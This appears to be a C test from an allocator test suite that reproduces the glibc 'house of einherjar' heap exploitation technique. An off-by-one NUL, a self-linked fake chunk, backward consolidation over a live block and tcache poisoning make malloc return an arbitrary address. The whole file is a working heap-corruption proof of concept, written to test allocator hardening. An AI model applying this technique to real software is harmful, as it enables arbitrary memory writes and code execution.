/* tech-house-of-einherjar: an off-by-one NUL from block B clears
   PREV_INUSE of block C, and B's last word (C's prev_size) is set to
   reach a fake free chunk in block A whose links point at itself (enough
   for glibc's unlink checks).  Freeing C merges it backwards into the
   fake chunk, over the live block B; B is then freed into the tcache, and
   the merged chunk, allocated again, rewrites B's next pointer.  Goal:
   malloc returns the target.  */

#include "tech-support.h"

static _Alignas (16) size_t target[8];

int
main (void)
{
  tech_begin ("house of einherjar");
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = tech_keep (malloc (0xf8));
  void *pad = tech_keep (malloc (0x28));
  char *a = tech_keep (malloc (0x38)); /* chunk 0x40 */
  char *b = tech_keep (malloc (0x28)); /* chunk 0x30, usable 0x28 */
  char *c = tech_keep (malloc (0xf8)); /* chunk 0x100, size field 0x101 */
  void *guard = tech_keep (malloc (0x10));
  tech_require_adjacent (a, b, 0x40);
  tech_require_adjacent (b, c, 0x30);

  /* The fake chunk: A's user data, 0x60 bytes up to C's chunk.  */
  struct tech_chunk *fake = (struct tech_chunk *) a;
  fake->size = 0x60;
  fake->fd = fake;
  fake->bk = fake;

  /* B's last word is C's prev_size; then the off-by-one NUL.  */
  *(size_t *) (b + 0x20) = 0x60;
  b[0x28] = '\0';
  for (int i = 0; i < 7; i++)
    free (fill[i]); /* the 0x100 tcache bin is full */
  tst_info ("freeing %p after the NUL byte cleared its PREV_INUSE", c);
  free (tst_opaque_ptr (c)); /* merges into the fake chunk */

  char *merged = tech_keep (malloc (0x158));
  if (!tech_overlap (merged, 0x158, b, 0x28))
    tech_result (false, "the merged block %p does not cover B %p", merged, b);
  tst_info ("the block %p covers the live block B %p", merged, b);
  free (pad);
  free (b); /* the 0x30 tcache bin: b -> pad */
  void **b_next = (void **) (merged + (b - (char *) tech_mem_of (fake)));
  *b_next = tech_protect (b_next, target);

  void *first = tech_keep (malloc (0x28));
  void *win = tech_keep (malloc (0x28));
  tst_info ("malloc returned %p, then %p", first, win);
  free (guard);
  tech_result (tech_same (win, target),
               "malloc returned the target %p (got %p)", (void *) target,
               win);
}
